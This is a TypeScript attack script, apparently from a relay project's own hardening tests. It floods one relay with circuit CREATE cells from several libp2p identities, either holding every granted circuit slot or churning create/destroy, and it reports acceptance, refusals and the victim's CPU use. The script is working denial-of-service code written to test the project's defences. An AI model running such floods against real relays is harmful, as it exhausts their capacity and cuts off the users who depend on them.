// Attack script (hardening issue, class 5): CREATE floods against one relay from stock libp2p hosts,
// with CREATE cells a real attacker would send. Modes:
//   fill   take as many circuit slots as the relay grants and hold them: CREATEs (up to `circuits` per
//          identity, `window` in flight) until `durationMs`; with valid handshakes, each granted
//          circuit gets one DROP so it counts as used. `untilRefusedInARow` ends an identity's run
//          after that many refusals in a row (it has reached a limit). With `hold`, the circuits stay
//          open after the report until the process is stopped.
//   churn  the CREATE/DESTROY loop: `window` CREATEs in flight per identity, each answered circuit
//          destroyed at once and replaced, for `durationMs`.
// handshake: `garbage` (the victim's onion key id, then random bytes: free) or `valid` (X25519 and
// ML-KEM-768 encapsulation with the project's own handshake code, ~0.1 ms each).
// Reports one JSON line when done (fill with `hold` reports, then holds):
//   {mode, handshake, identities, sent, accepted, acceptedPerIdentity, refused, refusedByReason,
//    unanswered, closedByVictim (granted circuits the victim closed later, e.g. unused), maxHeld (most
//    circuits one identity held at once), elapsedMs, createsPerSecond, attackerCpuS, victimCpuS?}
// `victimPid` (same machine) adds the victim's CPU seconds over the attack, from /proc/<pid>/stat.
import { readFileSync } from 'node:fs';
import type { Libp2p } from '@libp2p/interface';
import { multiaddr } from '@multiformats/multiaddr';
import { LinkCommand } from '../../../src/wire/cell.ts';
import { attackArgs, createAttackerHost, report } from './attacker-host.ts';
import {
  createCell,
  destroyCell,
  dropCell,
  fetchVictimKeys,
  garbageCreate,
  RawChannel,
  type VictimKeys,
  validCreate,
} from './raw-channel.ts';

interface Args {
  /** The victim's multiaddr, ending in /p2p/<peer id>. */
  readonly address: string;
  readonly mode: 'fill' | 'churn';
  readonly handshake: 'garbage' | 'valid';
  /** Attacker hosts, each its own peer id (all on 127.0.0.1). Default 1. */
  readonly identities?: number;
  /** fill: CREATEs per identity at most. Default 2500. */
  readonly circuits?: number;
  /** CREATEs in flight per identity. Default 64. */
  readonly window?: number;
  /** How long to send CREATEs. Default 5000. */
  readonly durationMs?: number;
  /** fill: an identity stops sending after this many refusals in a row. Default: never. */
  readonly untilRefusedInARow?: number;
  /** fill: keep the granted circuits open after the report until stopped. */
  readonly hold?: boolean;
  readonly victimPid?: number;
}

interface Counts {
  sent: number;
  accepted: number;
  refused: number;
  unanswered: number;
  closedByVictim: number;
  maxHeld: number;
  readonly refusedByReason: Record<string, number>;
}

const args = attackArgs<Args>();
const identities = args.identities ?? 1;
const window = args.window ?? 64;
const durationMs = args.durationMs ?? 5_000;
const maxPerIdentity = args.mode === 'fill' ? (args.circuits ?? 2_500) : Number.POSITIVE_INFINITY;

/** utime + stime of a process in seconds, from /proc (0 when unreadable). */
function cpuSeconds(pid: number): number {
  try {
    const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
    const rest = stat.slice(stat.lastIndexOf(')') + 2).split(' ');
    return (Number(rest[11]) + Number(rest[12])) / 100;
  } catch {
    return 0;
  }
}

const victimPeer = args.address.split('/p2p/').at(-1)!;
const hosts: Libp2p[] = [];
for (let i = 0; i < identities; i++) hosts.push(await createAttackerHost());
await hosts[0]!.dial(multiaddr(args.address), { signal: AbortSignal.timeout(10_000) });
const keys = await fetchVictimKeys(hosts[0]!, victimPeer);
const channels = await Promise.all(hosts.map((h) => RawChannel.open(h, multiaddr(args.address))));

const victimCpuBefore = args.victimPid === undefined ? 0 : cpuSeconds(args.victimPid);
const cpuBefore = process.cpuUsage();
const started = performance.now();
const stopAt = started + durationMs;

/** Runs the mode on one channel; resolves when it stopped sending and every CREATE was answered. */
function run(channel: RawChannel, victim: VictimKeys): Promise<Counts> {
  const counts: Counts = {
    sent: 0,
    accepted: 0,
    refused: 0,
    unanswered: 0,
    closedByVictim: 0,
    maxHeld: 0,
    refusedByReason: {},
  };
  const inFlight = new Map<number, ReturnType<typeof validCreate> | undefined>();
  /** Granted circuits still open (fill mode). */
  const held = new Set<number>();
  let refusedInARow = 0;
  const atLimit = () => args.untilRefusedInARow !== undefined && refusedInARow >= args.untilRefusedInARow;
  let nextId = 1;
  return new Promise((resolve) => {
    let finished = false;
    const finish = () => {
      if (finished) return;
      finished = true;
      counts.unanswered = inFlight.size;
      resolve(counts);
    };
    const sending = () =>
      !channel.isClosed && performance.now() < stopAt && counts.sent < maxPerIdentity && !atLimit();
    const pump = () => {
      while (inFlight.size < window && sending()) {
        const id = nextId++;
        const hs = args.handshake === 'valid' ? validCreate(victim) : undefined;
        inFlight.set(id, hs);
        counts.sent++;
        void channel.send(createCell(id, hs?.message ?? garbageCreate(victim)));
      }
      if (inFlight.size === 0 && !sending()) finish();
    };
    channel.onReply = (r) => {
      if (held.has(r.id) && r.command === LinkCommand.DESTROY) {
        held.delete(r.id);
        counts.closedByVictim++;
        return;
      }
      if (!inFlight.has(r.id)) return;
      const hs = inFlight.get(r.id);
      inFlight.delete(r.id);
      if (r.command === LinkCommand.CREATED) {
        refusedInARow = 0;
        counts.accepted++;
        if (args.mode === 'churn') void channel.send(destroyCell(r.id));
        else {
          held.add(r.id);
          counts.maxHeld = Math.max(counts.maxHeld, held.size);
          if (hs !== undefined) void channel.send(dropCell(r.id, hs.finish(r.body)));
        }
      } else if (r.command === LinkCommand.DESTROY) {
        refusedInARow++;
        counts.refused++;
        const key = String(r.reason ?? -1);
        counts.refusedByReason[key] = (counts.refusedByReason[key] ?? 0) + 1;
      }
      pump();
    };
    // Replies that never come (a closed channel) end the run a little after the sending time.
    const timer = setInterval(() => {
      if (channel.isClosed || performance.now() > stopAt + 10_000) {
        clearInterval(timer);
        finish();
      } else pump();
    }, 100);
    void channel.closed.then(() => setTimeout(finish, 100));
    pump();
  });
}

const results = await Promise.all(channels.map((c) => run(c, keys)));
const elapsedMs = performance.now() - started;
const cpu = process.cpuUsage(cpuBefore);
const total = (k: 'sent' | 'accepted' | 'refused' | 'unanswered' | 'closedByVictim') =>
  results.reduce((s, r) => s + r[k], 0);
const refusedByReason: Record<string, number> = {};
for (const r of results)
  for (const [k, v] of Object.entries(r.refusedByReason)) refusedByReason[k] = (refusedByReason[k] ?? 0) + v;
report({
  mode: args.mode,
  handshake: args.handshake,
  identities,
  sent: total('sent'),
  accepted: total('accepted'),
  acceptedPerIdentity: results.map((r) => r.accepted),
  refused: total('refused'),
  refusedByReason,
  unanswered: total('unanswered'),
  closedByVictim: total('closedByVictim'),
  maxHeld: Math.max(...results.map((r) => r.maxHeld)),
  elapsedMs: Math.round(elapsedMs),
  createsPerSecond: Math.round((total('sent') * 1000) / elapsedMs),
  attackerCpuS: (cpu.user + cpu.system) / 1e6,
  ...(args.victimPid === undefined ? {} : { victimCpuS: cpuSeconds(args.victimPid) - victimCpuBefore }),
});

if (args.mode === 'fill' && args.hold === true) {
  // Hold the circuits (and the process) until the test stops us.
  setInterval(() => {}, 60_000);
} else {
  for (const c of channels) c.close();
  await Promise.allSettled(hosts.map((h) => h.stop()));
  process.exit(0);
}
